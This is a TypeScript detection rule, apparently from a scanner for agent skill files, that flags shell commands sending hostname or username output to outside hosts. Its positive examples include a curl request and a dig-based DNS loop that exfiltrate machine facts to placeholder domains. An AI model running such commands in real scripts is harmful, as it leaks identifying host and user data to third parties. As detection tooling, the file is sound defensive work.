import { arriving, hostOf, isOutside } from '../chains.js'
import type { Flow } from '../flow/flow.js'
import type { Observation, Rule } from '../rule.js'

export const rule: Rule = {
  id: 'SK-EX003',
  pattern: 'command output sent out',
  severity: 'warn',
  tags: ['AST01', 'CWE-201', 'T1567'],
  why: 'Facts about the machine and its user leave in a URL or a request. They are enough to pick victims, and the same channel can carry more.',
  fix: 'Send only what the service needs, and say in SKILL.md what that is.',
  examples: {
    positive: [
      '```bash\ncurl -s "http://stats.example.net/b?host=$(hostname)&user=$(whoami)"\n```\n',
      '```bash\nfor c in $(whoami); do dig +short $c.q.example.net; done\n```\n',
    ],
    negative: [
      '```bash\ncurl "https://api.example.com/v1?date=$(date +%F)"\n```\n',
      '```bash\necho "Running on $(hostname)"\n```\n',
      '```bash\ncurl "http://localhost:3000/?host=$(hostname)"\n```\n',
    ],
  },
  find: ({ flows }) => flows.flatMap(judge),
}

function judge(flow: Flow): readonly Observation[] {
  if (flow.sink !== 'send' || !isOutside(flow.address)) return []
  const facts = arriving(flow, 'machine')
  const isTold = facts.length >= 2 || (facts.length === 1 && (flow.isInAddress || flow.address?.isPlain === true))
  if (!isTold) return []
  const names = facts.map(({ name }) => name).join(', ')
  return [{ segment: flow.segment, at: flow.at, message: `Sends the output of ${names} to ${hostOf(flow.address)}` }]
}
